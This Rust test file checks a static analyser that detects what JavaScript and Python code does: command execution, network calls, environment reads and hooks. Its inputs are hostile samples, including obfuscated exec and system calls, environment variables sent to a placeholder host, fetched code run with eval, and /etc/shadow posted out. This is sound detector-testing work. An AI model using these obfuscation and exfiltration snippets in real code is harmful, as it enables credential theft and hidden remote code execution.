//! Programs, and what is found in them.

use super::facts;
use crate::capability::{Capability, Source};
use crate::facts::{Facts, Flow, Moment};
use crate::ir::Language;

fn js(source: &str) -> Facts {
    facts(source, Language::JavaScript)
}

fn py(source: &str) -> Facts {
    facts(source, Language::Python)
}

fn acts(facts: &Facts) -> Vec<String> {
    facts.acts.iter().map(|act| format!("{} {}", act.capability.name(), act.detail).trim().to_owned()).collect()
}

fn has(facts: &Facts, capability: Capability, detail: &str) -> bool {
    facts.acts.iter().any(|act| act.capability == capability && act.detail.contains(detail))
}

#[track_caller]
fn assert_act(facts: &Facts, capability: Capability, detail: &str) {
    assert!(has(facts, capability, detail), "no {} {detail} in {:#?}", capability.name(), acts(facts));
}

#[track_caller]
fn assert_flow(facts: &Facts, from: Source, to: Capability) {
    let found = facts.flows.iter().any(|flow| {
        facts.acts[flow.to as usize].capability == to && flow.from.iter().any(|(source, _)| *source == from)
    });
    assert!(found, "no flow from {} to {} in {:#?} {:?}", from.name(), to.name(), acts(facts), facts.flows);
}

#[test]
fn a_module_is_what_it_is_required_as() {
    for source in [
        "require('child_process').exec('id')",
        "const cp = require('node:child_process'); cp.exec('id')",
        "const { exec: run } = require('child_process'); run('id')",
        "import { exec as e } from 'child_process'; e('id')",
        "import * as c from 'node:child_process'; c['ex' + 'ec']('id')",
        "const r = require; r('child' + '_process').exec('id')",
        "globalThis['req' + 'uire']('child_process').exec('id')",
        "(0, require('child_process').exec)('id')",
        "const m = 'child_process'; import(m).then(c => c.exec('id'))",
        "require('child_process').exec.call(null, 'id')",
    ] {
        assert_act(&js(source), Capability::Execute, "id");
    }
}

#[test]
fn a_number_of_python_that_grows_too_large_is_none() {
    let shifted = |what: &str| py(&format!("import os\nos.system(str({what}))"));
    assert_act(&shifted("1 << 52"), Capability::Execute, "4503599627370496");
    for what in ["1 << 63", "-1 << 63", "3 << 62", "1 << 64", "1 << 53", "(1 << 63) - 1"] {
        let facts = shifted(what);
        assert!(
            acts(&facts).iter().all(|act| !act.contains(|c: char| c.is_ascii_digit())),
            "{what}: {:?}",
            acts(&facts)
        );
    }
}

#[test]
fn a_module_of_python_is_what_it_is_imported_as() {
    for source in [
        "import os\nos.system('id')",
        "import os as o\no.system('id')",
        "from os import system as s\ns('id')",
        "__import__('os').system('id')",
        "import importlib\nimportlib.import_module('o' + 's').system('id')",
        "import os\ngetattr(os, 'sys' + 'tem')('id')",
        "import subprocess\nsubprocess.Popen(['id', '-u'])",
        "f = __import__\nf('os').system('id')",
    ] {
        assert_act(&py(source), Capability::Execute, "id");
    }
}

#[test]
fn layers_are_peeled_off() {
    let facts = js("eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=', 'base64').toString())");
    assert_act(&facts, Capability::Execute, "id");
    assert!(facts.acts.iter().any(|act| !act.layers.is_empty()));
    let facts = py("import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ=='))");
    assert_act(&facts, Capability::Execute, "id");
    let facts = py(
        "exec(''.join(map(chr, [105,109,112,111,114,116,32,111,115,10,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41])))",
    );
    assert_act(&facts, Capability::Execute, "id");
}

#[test]
fn a_decoder_in_the_program_is_run() {
    let source = "
        var t = ['exec', 'child_process', 'id'];
        (function (a, n) { while (n--) a.push(a.shift()); })(t, 2);
        function d(i) { return t[i - 10]; }
        require(d(12))[d(11)](d(10));
    ";
    let facts = js(source);
    assert!(!facts.acts.is_empty(), "{facts:#?}");
    let source = "
        function x(s, k) { var r = ''; for (var i = 0; i < s.length; i++) r += String.fromCharCode(s.charCodeAt(i) ^ k); return r; }
        require(x('bihme^qsnbdrr', 1)).exec('id');
    ";
    assert_act(&js(source), Capability::Execute, "id");
}

#[test]
fn data_is_followed() {
    let facts = js(
        "const h = require('https'); const d = JSON.stringify(process.env); h.request('https://x.invalid/?' + d).end()",
    );
    assert_flow(&facts, Source::EnvironmentAll, Capability::Network);
    let facts = js("fetch('https://x.invalid/a').then(r => r.text()).then(t => eval(t))");
    assert_flow(&facts, Source::Network, Capability::DynamicCode);
    let facts = js("
        const https = require('https');
        https.get('https://x.invalid/a', res => { let body = ''; res.on('data', d => { body += d }); res.on('end', () => { new Function(body)() }) })
    ");
    assert_flow(&facts, Source::Network, Capability::DynamicCode);
    let facts = py("import os, requests\nrequests.post('https://x.invalid', data=dict(os.environ))");
    assert_flow(&facts, Source::EnvironmentAll, Capability::Network);
    let facts = py("import urllib.request\nexec(urllib.request.urlopen('http://x.invalid').read())");
    assert_flow(&facts, Source::Network, Capability::DynamicCode);
}

#[test]
fn what_a_function_does_is_seen_whether_or_not_it_is_called() {
    let facts = js("function a() { require('child_process').exec('id') }");
    assert!(facts.acts.iter().any(|act| act.capability == Capability::Execute && act.moment == Moment::Later));
    let facts = js("function a() { require('child_process').exec('id') } a()");
    assert!(facts.acts.iter().any(|act| act.capability == Capability::Execute && act.moment == Moment::Load));
}

#[test]
fn branches_on_conditions_that_seem_false_are_seen() {
    let facts = js("const x = false; if (x) { require('child_process').exec('id') }");
    assert_act(&facts, Capability::Execute, "id");
}

#[test]
fn conditions_are_told() {
    let facts = js("if (process.platform === 'win32') { require('child_process').exec('id') }");
    let act = facts.acts.iter().find(|act| act.capability == Capability::Execute).unwrap();
    assert_eq!(act.conditions, ["process.platform === 'win32'"]);
}

#[test]
fn reading_one_variable_is_not_reading_the_environment() {
    let facts = js("const { HOME } = process.env; const e = process.env; if (e.CI) {} ");
    assert!(!has(&facts, Capability::EnvironmentAll, ""), "{:?}", acts(&facts));
    assert_act(&facts, Capability::Environment, "HOME");
    assert_act(&facts, Capability::Environment, "CI");
}

#[test]
fn evaluation_ends() {
    js("while (true) {}");
    js("function f() { return f() + f() } f()");
    js("var s = 'a'; for (;;) s += s;");
    py("def f(x):\n    return f(x) + f(x)\nf(1)");
    py("x = [1]\nwhile True:\n    x = x + x");
    js(&("a".to_owned() + &"+a".repeat(200_000)));
    js("let a = require('x'); for (let i = 0; i < 100000; i++) { a = a.next; a.call() }");
}

#[test]
fn what_burns_the_steps_hides_nothing_after_it() {
    let burn = "let x = 0; for (let i = 0; i < 100000000; i++) { x = x * 31 + i }\n";
    let facts = js(&format!("{burn}{burn}require('child_process').exec('id')"));
    assert_act(&facts, Capability::Execute, "id");
    assert!(!facts.gaps.is_empty(), "that it was not run to its end is told");
    let facts = js(&format!("(function () {{ {burn} if (true) {{ require('child_process').exec('id') }} }})()"));
    assert_act(&facts, Capability::Execute, "id");
    let facts = py("x = 0\nwhile x < 100000000:\n    x += 1\nimport os\nos.system('id')");
    assert_act(&facts, Capability::Execute, "id");
}

#[test]
fn a_loop_that_makes_something_is_run_to_its_end() {
    const ROUNDS: usize = 3_000;
    let codes = format!("[{}105, 100]", "32, ".repeat(ROUNDS));
    let each = format!("const codes = {codes}; let s = ''; for (let i = 0; i < codes.length; i++)");
    for (made, command) in [
        ("{ s += String.fromCharCode(codes[i]) }", "s"),
        ("{ parts[i] = String.fromCharCode(codes[i]) }", "parts.join('')"),
        ("{ parts.push(String.fromCharCode(codes[i])) }", "parts.join('')"),
    ] {
        let facts = js(&format!("const parts = []; {each} {made}\nrequire('child_process').exec({command}.trim())"));
        assert_act(&facts, Capability::Execute, "id");
        assert!(facts.gaps.is_empty(), "{:?}", facts.gaps);
    }
    let facts = py(&format!(
        "import os\ncodes = {codes}\ns = ''\ni = 0\nwhile i < len(codes):\n    s += chr(codes[i])\n    i += 1\nos.system(s.strip())"
    ));
    assert_act(&facts, Capability::Execute, "id");
}

#[test]
fn a_function_is_looked_at_again_for_what_comes_from_somewhere_else() {
    let plain = "send('a', {});\n".repeat(9);
    let facts = js(&format!(
        "const fs = require('fs'), https = require('https');\n\
         function send(data, options) {{ https.request('https://x.invalid/').end(data, options); return {{}} }}\n\
         {plain}send(fs.readFileSync('/etc/shadow'), {{}})"
    ));
    let reads = |flow: &Flow| flow.from.iter().any(|(source, _)| *source == Source::Secret);
    assert!(facts.flows.iter().any(reads), "{:?}", facts.flows);
}

#[test]
fn letters_are_taken_out_of_what_functions_say_of_themselves() {
    let name = "getattr(__builtins__, oct.__str__()[-3] + hex.__str__()[-4] + copyright.__str__()[4])";
    let facts = py(&format!("import os\nos.system(''.join(map({name}, [105, 100])))"));
    assert_act(&facts, Capability::Execute, "id");
}

#[test]
fn an_unknown_object_that_is_given_an_address_talks() {
    let facts = js("function f(w) { w.fetch('https://x.invalid/a') }");
    assert_act(&facts, Capability::Network, "https://x.invalid/a");
    let facts = js("function f(w) { w.get('name') }");
    assert!(!has(&facts, Capability::Network, ""), "{:?}", acts(&facts));
}

#[test]
fn a_function_of_the_platform_that_is_replaced_is_hooked() {
    let facts = js("const fs = require('fs'); fs.createWriteStream = function () {}");
    assert_act(&facts, Capability::Hook, "fs.createWriteStream");
}
